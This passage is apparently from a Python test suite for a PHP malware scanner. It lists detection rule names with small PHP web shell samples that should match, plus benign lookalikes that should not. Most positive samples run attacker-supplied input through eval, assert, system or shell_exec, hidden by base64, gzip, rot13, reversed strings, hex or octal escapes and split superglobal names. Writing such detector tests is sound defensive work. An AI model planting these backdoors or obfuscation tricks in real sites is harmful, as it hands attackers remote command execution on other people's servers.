        plain("<?php $e = array($_COOKIE['z'] => 1, 2 => 2); uasort($e, base64_decode('YXNzZXJ0'));\n"),
        True,
    ),
    # a:uasort_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        padded("<?php $e = array($_COOKIE['z'] => 1, 2 => 2); uasort($e, base64_decode('YXNzZXJ0'));\n"),
        True,
    ),
    # a:uasort_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        embedded("<?php $e = array($_COOKIE['z'] => 1, 2 => 2); uasort($e, base64_decode('YXNzZXJ0'));\n"),
        True,
    ),
    # a:shutdown_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        plain("<?php register_shutdown_function(base64_decode('YXNzZXJ0'), $_POST['x']);\n"),
        True,
    ),
    # a:shutdown_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        padded("<?php register_shutdown_function(base64_decode('YXNzZXJ0'), $_POST['x']);\n"),
        True,
    ),
    # a:shutdown_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        embedded("<?php register_shutdown_function(base64_decode('YXNzZXJ0'), $_POST['x']);\n"),
        True,
    ),
    # a:iterator_apply
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        plain(
            "<?php\n$it = new ArrayIterator(array(1));\niterator_apply($it, $_GET['f'], array($_GET['a']));\n"
        ),
        True,
    ),
    # a:iterator_apply
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        padded(
            "<?php\n$it = new ArrayIterator(array(1));\niterator_apply($it, $_GET['f'], array($_GET['a']));\n"
        ),
        True,
    ),
    # a:iterator_apply
    (
        "SPAMGEAR_INPUT_InputAsFunction",
        embedded(
            "<?php\n$it = new ArrayIterator(array(1));\niterator_apply($it, $_GET['f'], array($_GET['a']));\n"
        ),
        True,
    ),
    # a:closure_array_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        plain("<?php array_map(function($c){ eval($c); }, array($_POST['x']));\n"),
        True,
    ),
    # a:closure_array_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        padded("<?php array_map(function($c){ eval($c); }, array($_POST['x']));\n"),
        True,
    ),
    # a:closure_array_map
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        embedded("<?php array_map(function($c){ eval($c); }, array($_POST['x']));\n"),
        True,
    ),
    # a:closure_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        plain("<?php\n$fn = function($x) { return @eval($x); };\n$fn($_REQUEST['z']);\n"),
        True,
    ),
    # a:closure_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        padded("<?php\n$fn = function($x) { return @eval($x); };\n$fn($_REQUEST['z']);\n"),
        True,
    ),
    # a:closure_var
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
        embedded("<?php\n$fn = function($x) { return @eval($x); };\n$fn($_REQUEST['z']);\n"),
        True,
    ),
    # a:helper_eval
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        plain("<?php\nfunction run_it($s) {\n    eval(base64_decode($s));\n}\nrun_it($_COOKIE['t']);\n"),
        True,
    ),
    # a:helper_eval
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        padded("<?php\nfunction run_it($s) {\n    eval(base64_decode($s));\n}\nrun_it($_COOKIE['t']);\n"),
        True,
    ),
    # a:helper_eval
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        embedded("<?php\nfunction run_it($s) {\n    eval(base64_decode($s));\n}\nrun_it($_COOKIE['t']);\n"),
        True,
    ),
    # a:helper_shell
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        plain("<?php\nfunction x1($c) { return shell_exec($c); }\necho x1($_REQUEST['cmd']);\n"),
        True,
    ),
    # a:helper_shell
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        padded("<?php\nfunction x1($c) { return shell_exec($c); }\necho x1($_REQUEST['cmd']);\n"),
        True,
    ),
    # a:helper_shell
    (
        "SPAMGEAR_INPUT_HelperSinkOfInput",
        embedded("<?php\nfunction x1($c) { return shell_exec($c); }\necho x1($_REQUEST['cmd']);\n"),
        True,
    ),
    # a:and_eval
    ("SPAMGEAR_INPUT_ShortCircuitSink", plain("<?php\n$s = $_POST;\n$s['a'] && eval($s['a']);\n"), True),
    # a:and_eval
    ("SPAMGEAR_INPUT_ShortCircuitSink", padded("<?php\n$s = $_POST;\n$s['a'] && eval($s['a']);\n"), True),
    # a:and_eval
    ("SPAMGEAR_INPUT_ShortCircuitSink", embedded("<?php\n$s = $_POST;\n$s['a'] && eval($s['a']);\n"), True),
    # a:isset_and_eval
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        plain("<?php isset($_REQUEST['a']) && eval(stripslashes($_REQUEST['a']));\n"),
        True,
    ),
    # a:isset_and_eval
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        padded("<?php isset($_REQUEST['a']) && eval(stripslashes($_REQUEST['a']));\n"),
        True,
    ),
    # a:isset_and_eval
    (
        "SPAMGEAR_INPUT_ShortCircuitSink",
        embedded("<?php isset($_REQUEST['a']) && eval(stripslashes($_REQUEST['a']));\n"),
        True,
    ),
    # a:headers_foreach
    (
        "SPAMGEAR_EVASION_HeaderToSinkTiny",
        plain(
            "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n"
        ),
        True,
    ),
    # a:headers_foreach
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n"
        ),
        True,
    ),
    # a:headers_foreach
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\nforeach (getallheaders() as $n => $v) {\n    if ($n == 'X-Auth') { eval(base64_decode($v)); }\n}\n"
        ),
        True,
    ),
    # a:server_foreach
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
        ),
        True,
    ),
    # a:server_foreach
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
        ),
        True,
    ),
    # a:server_foreach
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php foreach ($_SERVER as $k => $v) { if (strpos($k, 'HTTP_X') === 0) { @eval(base64_decode($v)); } }\n"
        ),
        True,
    ),
    # a:extract_call
    ("SPAMGEAR_INPUT_AdjacentInputToSink", plain("<?php\nextract($_REQUEST);\n@$a($b);\n"), True),
    # a:extract_call
    ("SPAMGEAR_INPUT_AdjacentInputToSink", padded("<?php\nextract($_REQUEST);\n@$a($b);\n"), True),
    # a:extract_call
    ("SPAMGEAR_INPUT_AdjacentInputToSink", embedded("<?php\nextract($_REQUEST);\n@$a($b);\n"), True),
    # a:extract_post_func
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        plain("<?php\n@extract($_POST);\nif (!empty($func)) { echo $func($arg); }\n"),
        True,
    ),
    # a:extract_post_func
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        padded("<?php\n@extract($_POST);\nif (!empty($func)) { echo $func($arg); }\n"),
        True,
    ),
    # a:extract_post_func
    (
        "SPAMGEAR_INPUT_AdjacentInputToSink",
        embedded("<?php\n@extract($_POST);\nif (!empty($func)) { echo $func($arg); }\n"),
        True,
    ),
    # a:curly_superglobal
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", plain("<?php eval(${'_'.'POST'}['x']);\n"), True),
    # a:curly_superglobal
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", padded("<?php eval(${'_'.'POST'}['x']);\n"), True),
    # a:curly_superglobal
    ("SPAMGEAR_OBFUSC_SplitSuperglobal", embedded("<?php eval(${'_'.'POST'}['x']);\n"), True),
    # a:curly_sg_alias
    ("SPAMGEAR_OBFUSC_ConcatSinkName", plain("<?php\n$g = ${\"_G\".\"ET\"};\n$g['f']($g['a']);\n"), True),
    # a:curly_sg_alias
    ("SPAMGEAR_OBFUSC_ConcatSinkName", padded("<?php\n$g = ${\"_G\".\"ET\"};\n$g['f']($g['a']);\n"), True),
    # a:curly_sg_alias
    ("SPAMGEAR_OBFUSC_ConcatSinkName", embedded("<?php\n$g = ${\"_G\".\"ET\"};\n$g['f']($g['a']);\n"), True),
    # a:curly_req_call
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        plain('<?php @${"_REQ"."UEST"}[\'a\'](${"_REQ"."UEST"}[\'b\']);\n'),
        True,
    ),
    # a:curly_req_call
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        padded('<?php @${"_REQ"."UEST"}[\'a\'](${"_REQ"."UEST"}[\'b\']);\n'),
        True,
    ),
    # a:curly_req_call
    (
        "SPAMGEAR_OBFUSC_SplitSuperglobal",
        embedded('<?php @${"_REQ"."UEST"}[\'a\'](${"_REQ"."UEST"}[\'b\']);\n'),
        True,
    ),
    # a:spaced_comments
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        plain(
            "<?php eval /*x*/ ( gzinflate ( base64_decode ( 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA' ) ) ) ;\n"
        ),
        True,
    ),
    # a:spaced_comments
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        padded(
            "<?php eval /*x*/ ( gzinflate ( base64_decode ( 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA' ) ) ) ;\n"
        ),
        True,
    ),
    # a:spaced_comments
    (
        "SPAMGEAR_OBFUSC_CommentBeforeParen",
        embedded(
            "<?php eval /*x*/ ( gzinflate ( base64_decode ( 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA' ) ) ) ;\n"
        ),
        True,
    ),
    # a:upper_case
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain("<?php EVAL(GZINFLATE(BASE64_DECODE('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"),
        True,
    ),
    # a:upper_case
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded("<?php EVAL(GZINFLATE(BASE64_DECODE('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"),
        True,
    ),
    # a:upper_case
    (
        "SPAMGEAR_INJECT_EVAL_GZINFLATE_BLOCK",
        embedded("<?php EVAL(GZINFLATE(BASE64_DECODE('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"),
        True,
    ),
    # a:decoder_names_concat
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php\n$b = 'base64_'.'decode';\n$g = 'gz'.'inflate';\neval($g($b('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:decoder_names_concat
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php\n$b = 'base64_'.'decode';\n$g = 'gz'.'inflate';\neval($g($b('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:decoder_names_concat
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php\n$b = 'base64_'.'decode';\n$g = 'gz'.'inflate';\neval($g($b('cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA')));\n"
        ),
        True,
    ),
    # a:strrev_decoder_name
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php\n$f = strrev('edoced_46esab');\neval($f('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:strrev_decoder_name
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php\n$f = strrev('edoced_46esab');\neval($f('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:strrev_decoder_name
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php\n$f = strrev('edoced_46esab');\neval($f('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\n"
        ),
        True,
    ),
    # a:rot13_decoder_input
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain("<?php\n$f = str_rot13('onfr64_qrpbqr');\n@eval($f($_POST['x']));\n"),
        True,
    ),
    # a:rot13_decoder_input
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded("<?php\n$f = str_rot13('onfr64_qrpbqr');\n@eval($f($_POST['x']));\n"),
        True,
    ),
    # a:rot13_decoder_input
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded("<?php\n$f = str_rot13('onfr64_qrpbqr');\n@eval($f($_POST['x']));\n"),
        True,
    ),
    # a:nested3
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php eval(base64_decode(str_rot13(strrev('==jBvf2ovNlobAJMtfGXqWlLvfSISq0KxtFoyE3p5AUD'))));\n"
        ),
        True,
    ),
    # a:nested3
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php eval(base64_decode(str_rot13(strrev('==jBvf2ovNlobAJMtfGXqWlLvfSISq0KxtFoyE3p5AUD'))));\n"
        ),
        True,
    ),
    # a:nested3
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php eval(base64_decode(str_rot13(strrev('==jBvf2ovNlobAJMtfGXqWlLvfSISq0KxtFoyE3p5AUD'))));\n"
        ),
        True,
    ),
    # a:hexname_decoder
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        plain(
            "<?php\n$_ = 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n$__ = \"\\x62as\\x65\\x36\\x34_decode\";\neval($__($_));\n"
        ),
        True,
    ),
    # a:hexname_decoder
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        padded(
            "<?php\n$_ = 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n$__ = \"\\x62as\\x65\\x36\\x34_decode\";\neval($__($_));\n"
        ),
        True,
    ),
    # a:hexname_decoder
    (
        "SPAMGEAR_EVASION_EvalOfVariableCall",
        embedded(
            "<?php\n$_ = 'QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n$__ = \"\\x62as\\x65\\x36\\x34_decode\";\neval($__($_));\n"
        ),
        True,
    ),
    # a:compound_assign
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$c = 'as';\n$c .= 'se';\n$c .= 'rt';\n$c($_POST['k']);\n"),
        True,
    ),
    # a:compound_assign
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$c = 'as';\n$c .= 'se';\n$c .= 'rt';\n$c($_POST['k']);\n"),
        True,
    ),
    # a:compound_assign
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$c = 'as';\n$c .= 'se';\n$c .= 'rt';\n$c($_POST['k']);\n"),
        True,
    ),
    # a:cufa_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        plain("<?php call_user_func_array(base64_decode('c3lzdGVt'), array($_GET['c']));\n"),
        True,
    ),
    # a:cufa_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        padded("<?php call_user_func_array(base64_decode('c3lzdGVt'), array($_GET['c']));\n"),
        True,
    ),
    # a:cufa_decoded
    (
        "SPAMGEAR_OBFUSC_Base64SinkLiteral",
        embedded("<?php call_user_func_array(base64_decode('c3lzdGVt'), array($_GET['c']));\n"),
        True,
    ),
    # a:eval_closetag_blob
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        plain(
            "<?php\n$blob = 'PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\neval('?>' . base64_decode($blob));\n"
        ),
        True,
    ),
    # a:eval_closetag_blob
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        padded(
            "<?php\n$blob = 'PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\neval('?>' . base64_decode($blob));\n"
        ),
        True,
    ),
    # a:eval_closetag_blob
    (
        "SPAMGEAR_OBFUSC_Base64CodeDropper",
        embedded(
            "<?php\n$blob = 'PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\neval('?>' . base64_decode($blob));\n"
        ),
        True,
    ),
    # a:eval_interp
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain(
            "<?php\n$z = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$x = gzinflate(base64_decode($z));\neval(\"?>$x\");\n"
        ),
        True,
    ),
    # a:eval_interp
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded(
            "<?php\n$z = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$x = gzinflate(base64_decode($z));\neval(\"?>$x\");\n"
        ),
        True,
    ),
    # a:eval_interp
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded(
            "<?php\n$z = 'cyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\n$x = gzinflate(base64_decode($z));\neval(\"?>$x\");\n"
        ),
        True,
    ),
    # a:data_include
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        plain(
            "<?php include 'data://text/plain;base64,PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n"
        ),
        True,
    ),
    # a:data_include
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        padded(
            "<?php include 'data://text/plain;base64,PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n"
        ),
        True,
    ),
    # a:data_include
    (
        "SPAMGEAR_EVASION_IncludeOfStreamWrapper",
        embedded(
            "<?php include 'data://text/plain;base64,PD9waHAgQHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==';\n"
        ),
        True,
    ),
    # a:classic_rot_gz
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('ZlXLVlgvqtJDiQ8JZY9JKkOK1bRJKCooWkVDV6pDsgYA')))));\n"
        ),
        True,
    ),
    # a:classic_rot_gz
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('ZlXLVlgvqtJDiQ8JZY9JKkOK1bRJKCooWkVDV6pDsgYA')))));\n"
        ),
        True,
    ),
    # a:classic_rot_gz
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php eval(str_rot13(gzinflate(str_rot13(base64_decode('ZlXLVlgvqtJDiQ8JZY9JKkOK1bRJKCooWkVDV6pDsgYA')))));\n"
        ),
        True,
    ),
    # a:substr_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        plain(
            "<?php\n$d = 'XXXXXXXXXXcyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode(substr($d, 10))));\n"
        ),
        True,
    ),
    # a:substr_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\n$d = 'XXXXXXXXXXcyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode(substr($d, 10))));\n"
        ),
        True,
    ),
    # a:substr_blob
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\n$d = 'XXXXXXXXXXcyiuLC5JzdVQiXd3DYlWSlaK1bRWSE3OyFdQys9WsgYA';\neval(gzinflate(base64_decode(substr($d, 10))));\n"
        ),
        True,
    ),
    # a:class_method
    (
        "SPAMGEAR_INPUT_SmallInputAndSink",
        plain(
            "<?php\nclass Cache_Helper {\n    public function load($k) { return @eval(base64_decode($k)); }\n}\n$c = new Cache_Helper();\n$c->load($_POST['data']);\n"
        ),
        True,
    ),
    # a:class_method
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        padded(
            "<?php\nclass Cache_Helper {\n    public function load($k) { return @eval(base64_decode($k)); }\n}\n$c = new Cache_Helper();\n$c->load($_POST['data']);\n"
        ),
        True,
    ),
    # a:class_method
    (
        "SPAMGEAR_OBFUSC_EvalDecoder",
        embedded(
            "<?php\nclass Cache_Helper {\n    public function load($k) { return @eval(base64_decode($k)); }\n}\n$c = new Cache_Helper();\n$c->load($_POST['data']);\n"
        ),
        True,
    ),
    # a:array_index_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php $arr = [base64_decode('c3lzdGVt')]; $arr[0]($_GET['c']);\n"),
        True,
    ),
    # a:array_index_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php $arr = [base64_decode('c3lzdGVt')]; $arr[0]($_GET['c']);\n"),
        True,
    ),
    # a:array_index_call
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php $arr = [base64_decode('c3lzdGVt')]; $arr[0]($_GET['c']);\n"),
        True,
    ),
    # a:escaped_eval_in_code
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        plain(
            "<?php\n$s = \"\\x65\\x76\\x61\\x6c(\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\";\n$f = create_function('', $s);\n$f();\n"
        ),
        True,
    ),
    # a:escaped_eval_in_code
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        padded(
            "<?php\n$s = \"\\x65\\x76\\x61\\x6c(\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\";\n$f = create_function('', $s);\n$f();\n"
        ),
        True,
    ),
    # a:escaped_eval_in_code
    (
        "SPAMGEAR_OBFUSC_EscapedSinkName",
        embedded(
            "<?php\n$s = \"\\x65\\x76\\x61\\x6c(\\x62\\x61\\x73\\x65\\x36\\x34\\x5f\\x64\\x65\\x63\\x6f\\x64\\x65('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw=='));\";\n$f = create_function('', $s);\n$f();\n"
        ),
        True,
    ),
    # a:octal_eval_preg
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain(
            "<?php\n$m = \"/.*/\\145\";\n@preg_replace($m, \"\\145\\166\\141\\154('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')\", '');\n"
        ),
        True,
    ),
    # a:octal_eval_preg
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded(
            "<?php\n$m = \"/.*/\\145\";\n@preg_replace($m, \"\\145\\166\\141\\154('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')\", '');\n"
        ),
        True,
    ),
    # a:octal_eval_preg
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded(
            "<?php\n$m = \"/.*/\\145\";\n@preg_replace($m, \"\\145\\166\\141\\154('QHN5c3RlbSgkX0dFVFsiYyJdKTsgZWNobyAib2siOw==')\", '');\n"
        ),
        True,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain(
            "<?php\n$json = base64_decode($row['meta']);\n$meta = json_decode($json, true);\necho esc_html($meta['title']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded(
            "<?php\n$json = base64_decode($row['meta']);\n$meta = json_decode($json, true);\necho esc_html($meta['title']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded(
            "<?php\n$json = base64_decode($row['meta']);\n$meta = json_decode($json, true);\necho esc_html($meta['title']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain("<?php\n$compiled = $this->compiler->compile($source);\neval('?>' . $compiled);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded("<?php\n$compiled = $this->compiler->compile($source);\neval('?>' . $compiled);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded("<?php\n$compiled = $this->compiler->compile($source);\neval('?>' . $compiled);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        plain(
            "<?php\n$icon = base64_decode('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ');\nheader('Content-Type: image/png');\necho $icon;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        padded(
            "<?php\n$icon = base64_decode('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ');\nheader('Content-Type: image/png');\necho $icon;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_DecodedVarEval",
        embedded(
            "<?php\n$icon = base64_decode('iVBORw0KGgoAAAANSUhEUgAAABAAAAAQ');\nheader('Content-Type: image/png');\necho $icon;\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$fn = 'sanitize_' . $type;\n$clean = $fn($_POST['value']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$fn = 'sanitize_' . $type;\n$clean = $fn($_POST['value']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$fn = 'sanitize_' . $type;\n$clean = $fn($_POST['value']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain("<?php\n$callback = $this->callbacks[$key];\n$callback($_POST['data']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded("<?php\n$callback = $this->callbacks[$key];\n$callback($_POST['data']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded("<?php\n$callback = $this->callbacks[$key];\n$callback($_POST['data']);\n"),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        plain(
            "<?php\n$ip = $p[0] . '.' . $p[1] . '.' . $p[2] . '.' . $p[3];\n$log($_SERVER['REMOTE_ADDR']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        padded(
            "<?php\n$ip = $p[0] . '.' . $p[1] . '.' . $p[2] . '.' . $p[3];\n$log($_SERVER['REMOTE_ADDR']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_BuiltNameCalledOnInput",
        embedded(
            "<?php\n$ip = $p[0] . '.' . $p[1] . '.' . $p[2] . '.' . $p[3];\n$log($_SERVER['REMOTE_ADDR']);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        plain(
            "<?php\nfunction parse_list($s) {\n    $i = 0;\n    retry:\n    if ($i > 3) { goto done; }\n    $i++;\n    if (!$s) { goto retry; }\n    done:\n    return $i;\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        padded(
            "<?php\nfunction parse_list($s) {\n    $i = 0;\n    retry:\n    if ($i > 3) { goto done; }\n    $i++;\n    if (!$s) { goto retry; }\n    done:\n    return $i;\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_OBFUSC_GotoSpaghettiSink",
        embedded(
            "<?php\nfunction parse_list($s) {\n    $i = 0;\n    retry:\n    if ($i > 3) { goto done; }\n    $i++;\n    if (!$s) { goto retry; }\n    done:\n    return $i;\n}\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain("<?php\n$out = preg_replace('/' . preg_quote($word, '/') . '/i', '<b>$0</b>', $text);\n"),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded("<?php\n$out = preg_replace('/' . preg_quote($word, '/') . '/i', '<b>$0</b>', $text);\n"),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded("<?php\n$out = preg_replace('/' . preg_quote($word, '/') . '/i', '<b>$0</b>', $text);\n"),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        plain(
            "<?php\n$pattern = '/' . $rx . '/';\n$pattern .= 'i';\n$text = preg_replace($pattern, $replacement, $text);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        padded(
            "<?php\n$pattern = '/' . $rx . '/';\n$pattern .= 'i';\n$text = preg_replace($pattern, $replacement, $text);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_EVASION_SplitPregModifier",
        embedded(
            "<?php\n$pattern = '/' . $rx . '/';\n$pattern .= 'i';\n$text = preg_replace($pattern, $replacement, $text);\n"
        ),
        False,
    ),
    (
        "SPAMGEAR_INPUT_ClosureSinkOfInput",
